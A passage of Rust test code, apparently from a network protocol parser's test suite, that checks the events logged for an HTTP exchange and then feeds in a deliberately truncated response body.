        let (events, anomalies) = talk::<State>(turns, &[FACTS]);
        assert_eq!((events.len(), anomalies), (2, vec![]), "{url} {tagline}");
        let (store, more) = wanted.unwrap_or_default();
        assert_eq!(events[0].contains(" store="), wanted.is_some(), "{}", events[0]);
        assert!(events[0].contains(store) && events[0].contains(more), "{}", events[0]);
        assert!(events[0].contains(&format!(" length={}", body.len())), "{}", events[0]);
    }
    let cut = answer(named, "{\"a\"");
    spoil::<State>(&[(C, get("/").as_bytes()), (S, &cut.as_bytes()[..cut.len() - 2])]);
}
